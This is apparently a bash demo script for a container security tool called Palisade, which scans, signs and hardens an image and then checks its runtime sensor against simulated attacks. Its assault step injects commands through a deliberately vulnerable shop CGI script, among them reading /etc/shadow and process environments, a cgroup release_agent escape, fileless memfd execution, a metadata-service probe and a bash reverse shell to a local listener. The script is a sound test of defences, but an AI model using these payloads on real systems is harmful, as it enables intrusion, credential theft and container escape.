#!/usr/bin/env bash
# The main job of Palisade on a real container, from image to incident.
# Exit code 0 only if everything that is shown really happened.
set -uo pipefail

usage() {
    cat <<'TEXT'
usage: demo/run.sh [--palisade FILE] [--dir DIR] [--skip STEP[,STEP…]] [--only STEP[,STEP…]] [--headless]
       demo/run.sh --clean

  --palisade FILE   the program [default: target/release/palisade]
  --dir DIR         where the demo works [default: demo-out]; the image there is reused
  --skip, --only    steps: image scan trust run attack respond
  --headless        no colour; for CI
  --clean           remove what the demo made
TEXT
}

here=$(cd "$(dirname "$0")" && pwd)
palisade=${CARGO_TARGET_DIR:-$here/../target}/release/palisade
dir=${PALISADE_DEMO_DIR:-$here/../demo-out}
skip=""
only=""
headless=no
clean=no
while [ $# -gt 0 ]; do
    case "$1" in
        --palisade) palisade=$2; shift 2 ;;
        --dir) dir=$2; shift 2 ;;
        --skip) skip=$2; shift 2 ;;
        --only) only=$2; shift 2 ;;
        --headless) headless=yes; shift ;;
        --clean) clean=yes; shift ;;
        --help | -h) usage; exit 0 ;;
        *) echo "error: unknown argument \`$1\`" >&2; usage >&2; exit 2 ;;
    esac
done
if [ "$clean" = yes ]; then
    rm -rf "$dir"
    exit 0
fi
if [ "$(id -u)" -ne 0 ]; then
    echo "error: the demo runs containers and loads eBPF programs, so it needs root" >&2
    echo "hint: sudo $0, or make demo" >&2
    exit 3
fi
if [ ! -x "$palisade" ]; then
    echo "error: no program at $palisade" >&2
    echo "hint: make build" >&2
    exit 3
fi

mkdir -p "$dir"
dir=$(cd "$dir" && pwd)
palisade=$(realpath "$palisade")
cd "$dir" || exit 3
image=shop
log=$dir/demo.log
: >"$log"
# Everything of the demo's stays in its folder; nothing of the machine's own is touched.
export PALISADE_DATA_DIR=$dir/data PALISADE_RUN_DIR=/run/palisade-demo
export PALISADE_QUIET=true

# --- what the reader sees ---------------------------------------------------------------

if [ "$headless" = no ] && [ -t 1 ] && [ -z "${NO_COLOR:-}" ]; then
    bold=$'\e[1m' dim=$'\e[2m' green=$'\e[32m' red=$'\e[31m' yellow=$'\e[33m' cyan=$'\e[36m' reset=$'\e[0m'
else
    bold='' dim='' green='' red='' yellow='' cyan='' reset=''
fi
n_failed=0
n_claims=0
started=$(date +%s%N)
title() { printf '\n%s%s%s\n' "$bold$cyan" "$*" "$reset"; }
note() { printf '  %s%s%s\n' "$dim" "$*" "$reset"; }
shows() { sed 's/^/    /' | head -n "${1:-40}"; }
good() {
    printf '  %s✓%s %s\n' "$green" "$reset" "$*"
    n_claims=$((n_claims + 1))
}
bad() {
    n_claims=$((n_claims + 1))
    printf '  %s✗ %s%s\n' "$red" "$*" "$reset"
    n_failed=$((n_failed + 1))
}
# Runs a command and says whether it did what the sentence claims.
must() {
    local sentence=$1
    shift
    if "$@" >>"$log" 2>&1; then good "$sentence"; else bad "$sentence (see $log)"; fi
}
must_exit() { # code sentence command…
    local expected=$1 sentence=$2 code=0
    shift 2
    "$@" >>"$log" 2>&1 || code=$?
    if [ "$code" -eq "$expected" ]; then good "$sentence"; else bad "$sentence: exit code $code, not $expected (see $log)"; fi
}
typed() { printf '  %s$ palisade %s%s\n' "$bold" "$*" "$reset"; }
ms_since() { echo $((($(date +%s%N) - $1) / 1000000)); }
wanted() {
    case ",$skip," in *",$1,"*) return 1 ;; esac
    [ -z "$only" ] || case ",$only," in *",$1,"*) ;; *) return 1 ;; esac
}
timings=()
step() { # name function claims
    wanted "$1" || { note "step $1 skipped"; return; }
    local from before=$n_claims
    from=$(date +%s%N)
    "$2"
    timings+=("$1 $(ms_since "$from")")
    # A claim that was never made cannot fail; their number is part of the check.
    [ $((n_claims - before)) -eq "$3" ] ||
        bad "step $1 made $((n_claims - before)) claims, not $3"
}

# --- nothing stays behind ---------------------------------------------------------------

watcher=""
listener=""
container=""
cleanup() {
    trap - EXIT INT TERM HUP
    [ -z "$listener" ] || kill "$listener" 2>/dev/null
    if [ -n "$watcher" ] && kill -0 "$watcher" 2>/dev/null; then
        kill -TERM "$watcher" 2>/dev/null
        timeout 10 tail --pid="$watcher" -f /dev/null
    fi
    "$palisade" stop --all --grace 1 >>"$log" 2>&1
    rm -rf "$dir/tampered" "$dir/work/root" "$PALISADE_RUN_DIR"
}
trap cleanup EXIT
trap 'echo; echo "interrupted: cleaning up"; exit 130' INT TERM HUP

nothing_left() {
    local left=0
    if [ -e "$PALISADE_RUN_DIR" ]; then echo "left: $PALISADE_RUN_DIR"; left=1; fi
    if grep -E " ($dir|$PALISADE_RUN_DIR)/" /proc/self/mounts; then left=1; fi
    if [ -n "$container" ]; then
        if find /sys/fs/cgroup /sys/fs/bpf/palisade -maxdepth 4 -name "$container*" 2>/dev/null | grep .; then left=1; fi
        # A dead process whose parent has not yet fetched its exit code runs no more.
        local file
        for file in $(grep -ls "$container" /proc/[0-9]*/cgroup); do
            if grep -qs '^State:.[^Z]' "${file%cgroup}status"; then echo "left: $file"; left=1; fi
        done
    fi
    return $left
}

# --- the steps --------------------------------------------------------------------------

build_image() {
    title "1  An image from real packages"
    if [ -f "$image/index.json" ]; then
        note "reusing $image"
    else
        "$here/image.sh" "$dir/$image" "$dir/work" || { bad "the image could not be built"; exit 3; }
    fi
    good "an OCI layout of $(du -sh "$image" | cut -f1), built without Palisade"
}

judge() {
    title "2  What is in it, and is it fit to run"
    typed "db build --debian-changelogs debs"
    must "what the mirror's newer packages say they fixed is now a database" \
        "$palisade" db build --debian-changelogs "$dir/work/debs"
    typed "scan oci:shop"
    "$palisade" scan "oci:$image" >"$dir/scan.txt" 2>>"$log"
    shows 45 <"$dir/scan.txt"
    must "the report as JSON" "$palisade" scan --format json --output "$dir/scan.json" "oci:$image"
    must "at least 50 Debian packages" test "$(grep -o '"kind": *"dpkg"' "$dir/scan.json" | wc -l)" -ge 50
    if [ -n "$(ls "$dir/work/debs" 2>/dev/null)" ]; then
        must "known vulnerabilities, each with the version that fixes it" grep -q 'CVE-2' "$dir/scan.json"
    else
        good "the mirror has nothing newer than the image today, so no vulnerability is known"
    fi
    must "setuid programs" grep -q '"setuid"' "$dir/scan.json"
    must "the planted cloud key" grep -q '/srv/shop/.config/deploy.env' "$dir/scan.json"
    must "the planted private key" grep -q '/etc/ssl/private/shop.pem' "$dir/scan.json"
    # shellcheck disable=SC2016
    must "the cloud key's value is nowhere in the report" bash -c '! grep -qE "AKIA[A-Z2-7]{16}" "$0"' "$dir/scan.json"
    typed "sbom --format cyclonedx-json oci:shop"
    must "a CycloneDX bill of materials: shop.cdx.json" \
        "$palisade" sbom --format cyclonedx-json --output "$dir/shop.cdx.json" "oci:$image"
    typed "scan --policy restricted oci:shop"
    must_exit 1 "the gate of \`restricted\` refuses it (exit code 1)" \
        "$palisade" scan --policy restricted "oci:$image"
}

prove() {
    title "3  Where it came from"
    cp "$here/policy.yaml" "$dir/policy.yaml"
    if [ -f "$dir/shop.key" ]; then
        good "a key pair (of an earlier run)"
    else
        typed "sign --generate-key shop"
        must "a key pair" "$palisade" sign --generate-key "$dir/shop"
    fi
    typed "sign --key shop.key oci:shop"
    must "the image is signed; the signature lies in the layout as an OCI referrer" \
        "$palisade" sign --key "$dir/shop.key" "oci:$image"
    typed "verify --key shop.pub oci:shop"
    must "every byte and the signature verified" "$palisade" verify --key "$dir/shop.pub" "oci:$image"

    rm -rf "$dir/tampered"
    cp -r "$image" "$dir/tampered"
    local layer
    layer=$(find "$dir/tampered/blobs/sha256" -type f -size +1M | head -n 1)
    # One bit of one byte, in the middle of the largest layer.
    local at byte
    at=$(($(stat -c %s "$layer") / 2))
    byte=$(od -An -tu1 -j "$at" -N 1 "$layer" | tr -d ' ')
    printf "$(printf '\\x%02x' $((byte ^ 1)))" |
        dd of="$layer" bs=1 seek="$at" conv=notrunc status=none
    must_exit 1 "one changed bit in a layer is refused" \
        "$palisade" verify --key "$dir/shop.pub" "oci:$dir/tampered"
    "$palisade" verify --key "$dir/shop.pub" "oci:$dir/tampered" 2>&1 | shows 4
    must_exit 1 "and it does not run either" \
        "$palisade" run --policy "$dir/policy.yaml" "oci:$dir/tampered"
    rm -rf "$dir/tampered"
}

container_field() { # column of `ps --format tsv`
    "$palisade" ps --format tsv 2>>"$log" | awk -F'\t' -v column="$1" '$2 == "shop" { print $column }'
}

answers() { ask "1" 2>/dev/null | grep -q 'on its way'; }

inside() { "$palisade" exec shop -- /bin/sh -c "$1" 2>&1; }

# Says what a command inside prints, and whether it is what hardening promises.
shows_inside() { # sentence pattern command
    local answer
    answer=$(inside "$3" | tr '\n' ' ' | sed 's/ *$//')
    printf '%s\n' "inside: $3 -> $answer" >>"$log"
    if printf '%s' "$answer" | grep -qE "$2"; then
        good "$(printf '%-38s %s%s%s' "$1" "$dim" "$answer" "$reset")"
    else
        bad "$1: $answer"
    fi
}

start() {
    title "4  Run it with the least privilege"
    typed "run --detach --name shop --policy policy.yaml oci:shop"
    local from
    from=$(date +%s%N)
    must "verified, admitted, hardened and started" \
        "$palisade" run --detach --name shop --policy "$dir/policy.yaml" "oci:$image"
    container=$("$palisade" ps --format json 2>>"$log" | sed -n 's/.*"id": *"\([0-9a-f]\{64\}\)".*/\1/p' | head -n 1)
    note "in $(ms_since "$from") ms; what the policy changed: palisade run --explain"
    local tries
    for tries in $(seq 50); do
        answers && break
        sleep 0.1
    done
    must "the shop answers its customers" answers
    note "seen from inside:"
    shows_inside "its own 65,536 ids" '^ *0 +[1-9][0-9]{5,} +65536' 'cat /proc/self/uid_map'
    shows_inside "not root" '^uid=33' 'id'
    shows_inside "no capabilities" '0000000000000000 0000000000000000' "sed -n 's/^Cap\(Eff\|Bnd\):.//p' /proc/self/status"
    shows_inside "no new privileges, seccomp filter" 'NoNewPrivs:.1.*Seccomp:.2' "grep -E '^(NoNewPrivs|Seccomp):' /proc/self/status"
    shows_inside "read-only root" 'Read-only file system' 'touch /owned'
    shows_inside "programs on /tmp do not start" 'Permission denied' 'cp /bin/true /tmp/t && /tmp/t; rm -f /tmp/t'
    shows_inside "no network but loopback" '^lo$' "sed -n 's/^ *\([a-z0-9]*\):.*/\1/p' /proc/net/dev"
    local cgroup
    cgroup=$(container_field 6)
    limit_of "memory limit" 134217728 "memory$cgroup/memory.limit_in_bytes" "$cgroup/memory.max"
    limit_of "process limit" 64 "pids$cgroup/pids.max" "$cgroup/pids.max"
}

limit_of() { # sentence value v1-file v2-file
    local file
    for file in "/sys/fs/cgroup/$3" "/sys/fs/cgroup/$4"; do
        [ -f "$file" ] || continue
        if [ "$(cat "$file")" = "$2" ]; then good "$(printf '%-38s %s%s%s' "$1" "$dim" "$2" "$reset")"; else bad "$1: $(cat "$file")"; fi
        return
    done
    bad "$1: no cgroup file"
}

# Asks the shop for a parcel, as anybody who reaches its port can. The attacker's whole
# power is in the argument.
ask() {
    local query
    query=$(printf '%s' "$1" | od -An -v -tx1 | tr -d '\n' | sed 's/ /%/g')
    # shellcheck disable=SC2016
    nsenter --target "$(container_field 4)" --net timeout 5 bash -c '
        exec 3<>/dev/tcp/127.0.0.1/8080 || exit 1
        printf "GET /cgi-bin/track.pl?parcel=%s HTTP/1.0\r\n\r\n" "$1" >&3
        cat <&3' _ "$query" | sed '1,/^\r*$/d'
}

# Alerts so far: id time priority rule verdict errno latency event process lineage container image output
alerts() { "$palisade" respond alerts --container shop --format tsv 2>>"$log"; }

n_seen=0
n_blocked=0
attack() { # technique name rule-pattern payload
    local technique=$1 name=$2 rule=$3 payload=$4 reply before line tries
    before=$(alerts | wc -l)
    reply=$(ask "; $payload #" 2>>"$log" | grep -v '^Parcel' | head -n 1 | cut -c1-72)
    for tries in $(seq 60); do
        line=$(alerts | tail -n "+$((before + 1))" | awk -F'\t' -v rule="$rule" '$4 ~ rule { print; exit }')
        [ -n "$line" ] && break
        sleep 0.05
    done
    if [ -z "$line" ]; then
        bad "$technique $name: no alert"
        return
    fi
    report_attack "$technique" "$name" "$line" "$reply"
}

report_attack() { # technique name alert-line reply
    local verdict errno latency matched lineage colour=$yellow word=detected
    IFS=$'\t' read -r _ _ _ matched verdict errno latency _ _ lineage _ <<<"$3"
    if [ "$verdict" = blocked ]; then
        colour=$green
        word="blocked ($errno)"
        n_blocked=$((n_blocked + 1))
    fi
    n_seen=$((n_seen + 1))
    good "$(printf '%-10s %-37s %s%-21s%s %6s ms  %s' \
        "$1" "$2" "$colour" "$word" "$reset" "$latency" "$matched")"
    printf '      %s%s%s\n' "$dim" "$lineage" "$reset"
    [ -z "$4" ] || printf '      %sthe attacker reads: %s%s\n' "$dim" "$4" "$reset"
}

# Numbers of system calls, for perl's syscall().
call() { # name
    case "$(uname -m) $1" in
        "x86_64 memfd_create") echo 319 ;; "aarch64 memfd_create") echo 279 ;;
        "x86_64 mount") echo 165 ;; "aarch64 mount") echo 40 ;;
        "x86_64 unshare") echo 272 ;; "aarch64 unshare") echo 97 ;;
        "x86_64 ptrace") echo 101 ;; "aarch64 ptrace") echo 117 ;;
        "x86_64 init_module") echo 175 ;; "aarch64 init_module") echo 105 ;;
    esac
}

assault() {
    title "5  An attacker finds the hole in the shop"
    typed "watch --policy policy.yaml --respond on"
    rm -f "$dir/ready"
    "$palisade" watch --policy "$dir/policy.yaml" --respond on --format json \
        --ready-file "$dir/ready" >"$dir/alerts.jsonl" 2>>"$log" &
    watcher=$!
    local tries
    for tries in $(seq 100); do
        [ -e "$dir/ready" ] && break
        sleep 0.05
    done
    [ -e "$dir/ready" ] || { bad "the sensor did not start (see $log)"; return; }
    good "the sensor is attached (after $((tries * 50)) ms at most)"
    note "every request below is GET /cgi-bin/track.pl?parcel=…"

    attack T1059.004 "shell spawned by the web server" "[Ss]hell" 'id'
    attack T1003.008 "read /etc/shadow" "[Ss]ensitive" 'cat /etc/shadow'
    attack T1105 "drop a program and run it" "[Dd]ropped|[Ww]ritable" \
        'cp /bin/true /tmp/.x; chmod 755 /tmp/.x; /tmp/.x'
    attack T1620 "run a program from memory (memfd)" "[Ff]ileless|[Mm]emory|memfd" \
        "perl -e '\$^F=99; \$n=\"x\"; \$f=syscall($(call memfd_create),\$n,0); die \"memfd_create: \$!\\n\" if \$f<0; open I,\"</bin/true\"; open O,\">&=\",\$f; print O \$_ while <I>; close O; exec \"/proc/self/fd/\$f\"'"
    attack T1552.005 "cloud metadata service" "[Mm]etadata" \
        "bash -c 'exec 3<>/dev/tcp/169.254.169.254/80'"
    attack T1611 "write a cgroup release_agent" "[Rr]elease|[Ee]scape" \
        "sh -c 'echo /tmp/.x >/sys/fs/cgroup/release_agent'"
    attack T1552.007 "read another process's environment" "[Ee]nviron" \
        "cat /proc/1/environ | tr '\\0' '\\n' | grep -c PASSWORD"
    attack T1611 "mount a file system" "[Mm]ount" \
        "perl -e '\$a=\"none\";\$b=\"/tmp\";\$c=\"tmpfs\"; syscall($(call mount),\$a,\$b,\$c,0,0)==0 or die \"mount: \$!\\n\"'"
    attack T1611 "new user namespace" "[Nn]amespace" \
        "perl -e 'syscall($(call unshare),0x10000000)==0 or die \"unshare: \$!\\n\"'"
    attack T1055.008 "attach to another process (ptrace)" "[Tt]raced" \
        "perl -e 'syscall($(call ptrace),16,1,0,0)==0 or die \"ptrace: \$!\\n\"'"
    attack T1547.006 "load a kernel module" "[Mm]odule" \
        "perl -e '\$a=\"x\" x 64; \$b=\"\"; syscall($(call init_module),\$a,64,\$b)==0 or die \"init_module: \$!\\n\"'"

    # A listener in the container's network stands for the attacker's own machine.
    # shellcheck disable=SC2016
    nsenter --target "$(container_field 4)" --net timeout 10 perl -MIO::Socket::INET -e '
        my $l = IO::Socket::INET->new(Listen => 1, LocalAddr => "127.0.0.1:8443", ReuseAddr => 1) or die;
        my $c = $l->accept or die; print $c "id\n"; print while <$c>;' >>"$log" 2>&1 &
    listener=$!
    sleep 0.3
    attack T1059.004 "reverse shell" "[Rr]everse" \
        "bash -c 'bash -i >&/dev/tcp/127.0.0.1/8443 0>&1'"
    must "all 12 techniques were blocked or detected ($n_blocked blocked, $((n_seen - n_blocked)) detected)" \
        test "$n_seen" -eq 12
}

answer() {
    title "6  What Palisade did about it"
    local tries
    for tries in $(seq 200); do
        "$palisade" respond show latest --format json 2>/dev/null | grep -q '"state": *"contained"' && break
        sleep 0.1
    done
    typed "respond show latest"
    "$palisade" respond show latest >"$dir/incident.txt" 2>>"$log"
    shows 80 <"$dir/incident.txt"
    "$palisade" respond show latest --format json >"$dir/incident.json" 2>>"$log"
    must "the alerts are one incident, and it is contained" grep -q '"state": *"contained"' "$dir/incident.json"
    local action
    for action in freeze isolate evidence kill; do
        must "$action: done" bash -c "tr -d ' \n' <'$dir/incident.json' | grep -q '\"action\":\"$action\",\"result\":\"done\"'"
    done
    must "no process of the container is left" test "$(container_field 3)" = stopped
    local bundle
    bundle=$(find "$PALISADE_DATA_DIR/evidence" -name '*.tar*' 2>/dev/null | sort | tail -n 1)
    typed "evidence verify $(basename "$bundle")"
    "$palisade" evidence verify "$bundle" 2>&1 | shows 6
    must "the evidence verifies: items, chain, signature" "$palisade" evidence verify "$bundle"
    cp "$bundle" "$dir/tampered-evidence"
    printf 'X' | dd of="$dir/tampered-evidence" bs=1 seek=$(($(stat -c %s "$bundle") / 3)) conv=notrunc status=none
    must_exit 1 "one changed byte in it is refused" "$palisade" evidence verify "$dir/tampered-evidence"
    rm -f "$dir/tampered-evidence"
    typed "respond report latest --html incident.html --scan scan.json"
    local scan=()
    [ -f "$dir/scan.json" ] && scan=(--scan "$dir/scan.json")
    must "the report of the incident, one file" \
        "$palisade" respond report latest --html "$dir/incident.html" "${scan[@]}"
}

printf '%sPalisade, from image to incident%s  (%s)\n' "$bold" "$reset" "$("$palisade" version)"
rm -rf "$PALISADE_DATA_DIR/alerts.jsonl" "$PALISADE_DATA_DIR/incidents" "$PALISADE_DATA_DIR/evidence" \
    "$PALISADE_DATA_DIR/actions.jsonl"
step image build_image 1
step scan judge 10
step trust prove 5
step run start 11
step attack assault 14
# Without an attack there is nothing to respond to.
if wanted attack; then step respond answer 9; fi
cleanup
title "The whole job"
for timing in "${timings[@]}"; do
    printf '  %-8s %6d ms\n' "${timing% *}" "${timing#* }"
done
printf '  %-8s %6d ms\n' all "$(ms_since "$started")"
if [ -f "$dir/incident.html" ]; then printf '  report   %s\n' "$dir/incident.html"; fi
must "nothing is left: no process, mount, control group or BPF pin" nothing_left
if [ "$n_failed" -ne 0 ]; then
    printf '\n%s%d claim(s) did not hold%s; see %s\n' "$red" "$n_failed" "$reset" "$log"
    exit 1
fi
printf '\n%severy claim above was checked as it was made%s\n' "$green" "$reset"
